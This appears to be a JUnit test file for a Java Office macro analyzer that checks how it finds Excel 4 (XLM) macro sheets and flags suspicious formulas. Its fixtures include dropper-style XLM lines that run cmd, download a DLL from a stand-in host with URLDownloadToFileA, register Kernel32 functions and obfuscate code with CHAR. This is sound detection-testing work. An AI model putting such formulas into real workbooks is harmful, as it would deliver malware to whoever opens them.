package org.peekaboo.office;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.peekaboo.office.testing.OfficeFiles;
import org.peekaboo.ruleset.MacroBehaviour;

class XlmFormulasTest {
    private final MacroAnalyzer analyzer = MacroAnalyzer.withDefaultLimits();

    @TempDir
    Path dir;

    @Test
    void theFormulasOfAnOoxmlMacroSheetAreRead() throws Exception {
        OleReport report = analyze(OfficeFiles.xlsmWithXlmFormulas("EXEC(\"cmd /c start http://example.invalid/x\")",
                "IF(A1<>\"\",GOTO(A3))", "HALT()"));

        assertThat(report.hasXlmMacros()).isTrue();
        assertThat(report.xlmCode()).isEqualTo("EXEC(\"cmd /c start http://example.invalid/x\")\n"
                + "IF(A1<>\"\",GOTO(A3))\nHALT()");
        assertThat(report.vbaCode()).isEmpty();
        assertThat(report.attribute("xlm_code")).isEqualTo(report.xlmCode());
        assertThat(report.detectedAutoexec()).containsExactly(
                "Auto_Open: An Excel 4 macro runs when the workbook is opened (defined name)");
        assertThat(report.indicators(MacroBehaviour.EXECUTION)).containsExactly("EXEC (Excel 4)");
        assertThat(report.detectedSuspicious()).contains("EXEC (Excel 4): Runs a program or command (Excel 4 EXEC)");
    }

    @Test
    void aMacroSheetIsFoundByItsContentTypeWhateverItsPartName() throws IOException {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("xl/odd/data.xml", utf8("<worksheet><sheetData><row><c><f>EXEC(&quot;calc&quot;)</f></c></row>"
                + "</sheetData></worksheet>"));
        parts.put("xl/worksheets/sheet1.xml", utf8("<worksheet><sheetData><row><c><f>SUM(A1:A3)</f></c></row>"
                + "</sheetData></worksheet>"));
        parts.put("[Content_Types].xml", utf8("<Types><Override PartName=\"/xl/odd/data.xml\""
                + " ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/><Override PartName="
                + "\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument"
                + ".spreadsheetml.worksheet+xml\"/></Types>"));

        assertThat(analyze(OfficeFiles.zip(parts)).xlmCode()).isEqualTo("EXEC(\"calc\")");
    }

    @Test
    void aMacroSheetIsFoundByTheWorkbookRelationship() throws IOException {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", utf8("<Types/>"));
        parts.put("xl/_rels/workbook.xml.rels", utf8("<Relationships><Relationship Id=\"rId1\" Target=\"../m/s.xml\""
                + " Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\"/></Relationships>"));
        parts.put("m/s.xml", utf8("<x:macrosheet><x:f>FWRITELN(1,&quot;x&quot;)</x:f></x:macrosheet>"));

        OleReport report = analyze(OfficeFiles.zip(parts));

        assertThat(report.xlmCode()).isEqualTo("FWRITELN(1,\"x\")");
        assertThat(report.indicators(MacroBehaviour.FILE_WRITE)).containsExactly("FWRITE (Excel 4)");
    }

    @Test
    void theFormulasOfALegacyMacroSheetAreRead() throws IOException {
        OleReport report = analyze(OfficeFiles.xlsWithXlmFormulas("EXEC(\"cmd /c calc\")",
                "REGISTER(\"Kernel32\",\"WinExec\",\"JCJ\",\"Run1\",,1,9)", "SUM(B1:B2)"));

        assertThat(report.hasXlmMacros()).isTrue();
        assertThat(report.xlmCode().lines()).hasSize(3).first().isEqualTo("EXEC(\"cmd /c calc\")");
        assertThat(report.xlmCode()).contains("\"Kernel32\",\"WinExec\"", "SUM(B1:B2)");
        assertThat(report.autoexecTriggers()).containsExactly("Auto_Open");
        assertThat(report.indicators(MacroBehaviour.EXECUTION)).containsExactly("EXEC (Excel 4)",
                "WinExec/ShellExecute (Excel 4)");
    }

    @Test
    void formulasOfOrdinaryWorksheetsAreNoMacros() throws IOException {
        OleReport report = analyze(OfficeFiles.xls(Map.of(), false, false));

        assertThat(report.xlmCode()).isEmpty();
        assertThat(report.hasXlmMacros()).isFalse();
    }

    @Test
    void aSylkMacroSheetIsRead() throws IOException {
        OleReport report = analyze(OfficeFiles.sylkWithXlmFormulas("EXEC(\"cmd /c calc\")", "HALT()"));
        OleReport plainSpreadsheet = analyze(utf8("ID;PWXL;N;E\r\nC;X1;Y1;K1\r\nC;X1;Y2;ER[-1]C+1\r\nE\r\n"));

        assertThat(report.hasXlmMacros()).isTrue();
        assertThat(report.xlmCode()).isEqualTo("EXEC(\"cmd /c calc\")\nHALT()");
        assertThat(report.autoexecTriggers()).containsExactly("Auto_Open");
        assertThat(plainSpreadsheet).isEqualTo(OleReport.NO_MACROS);
    }

    @Test
    void aSemicolonSeparatedCsvStartingWithIdIsNoSylk() throws IOException {
        byte[] csv = utf8("ID;Name;Command\r\n1;O;E\r\n2;C;EEXEC(\"calc\")\r\nNN;NAuto_Open;E1\r\n");

        assertThat(analyze(csv)).isEqualTo(OleReport.NO_MACROS);
    }

    @Test
    void semicolonsInSylkFormulasAreUnescaped() throws IOException {
        OleReport report = analyze(OfficeFiles.sylkWithXlmFormulas("EXEC(\"cmd /c a;b\")"));

        assertThat(report.xlmCode()).isEqualTo("EXEC(\"cmd /c a;b\")");
    }

    @Test
    void tooManyFormulasFail() {
        String[] formulas = new String[Findings.MAX_XLM_FORMULAS + 1];
        java.util.Arrays.fill(formulas, "1");

        assertThatThrownBy(() -> analyze(OfficeFiles.sylkWithXlmFormulas(formulas)))
                .isInstanceOf(OfficeDocumentException.class).hasMessageContaining("Excel 4 formulas exceed");
    }

    @Test
    void theXlmIndicatorsCoverWhatDroppersDo() {
        assertThat(found(List.of("CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://x/p\",\"p.dll\",0,0)")))
                .containsExactly("URLDownloadToFile (Excel 4)");
        assertThat(found(List.of("REGISTER(\"Kernel32\",\"VirtualAlloc\",\"JJJJJ\",\"VA\",,1,9)")))
                .containsExactly("VirtualAlloc/CreateThread (Excel 4)");
        assertThat(found(List.of("REGISTER(\"evil.dll\",\"Start\",\"J\",\"S\",,1,9)")))
                .containsExactly("CALL/REGISTER DLL (Excel 4)");
        assertThat(found(List.of("REGISTER(\"Ker\"&\"nel32\",\"Beep\",\"JJ\",\"B\",,1,9)")))
                .containsExactly("CALL/REGISTER DLL (Excel 4)");
        assertThat(found(List.of("FORMULA(CHAR(61)&\"A1+1\",A5)"))).containsExactly("FORMULA (Excel 4)");
        assertThat(found(List.of("CHAR(61)&CHAR(69)&CHAR(88)&CHAR(69)&CHAR(67)&CHAR(40)&CHAR(41)&CHAR(41)")))
                .containsExactly("CHAR (Excel 4)");
        assertThat(found(List.of("IF(GET.WORKSPACE(19),,CLOSE(FALSE))"))).containsExactly("GET.WORKSPACE (Excel 4)");
        assertThat(found(List.of("IF(GET.WINDOW(7),HALT())"))).containsExactly("GET.WORKSPACE (Excel 4)");
    }

    @Test
    void ordinaryMacroSheetFormulasShowNothing() {
        assertThat(found(List.of("SUM(B1:B9)", "RUN(Macro1!A10)", "GOTO(A1)", "FORMULA(\"Total\",B10)",
                "CHAR(13)", "GET.WORKSPACE(2)", "CALL(A1,2)", "REGISTER(\"user32\",\"MessageBeep\",\"JJ\")",
                "FOPEN(\"data.txt\",1)", "RETURN()", "ALERT(\"Done\")"))).isEmpty();
    }

    private static List<String> found(List<String> formulas) {
        return XlmIndicators.ALL.stream().filter(indicator -> indicator.test().test(formulas))
                .map(XlmIndicator::name).toList();
    }

    private OleReport analyze(byte[] content) throws IOException {
        Path file = dir.resolve("sample");
        Files.write(file, content);
        return analyzer.analyze(file);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
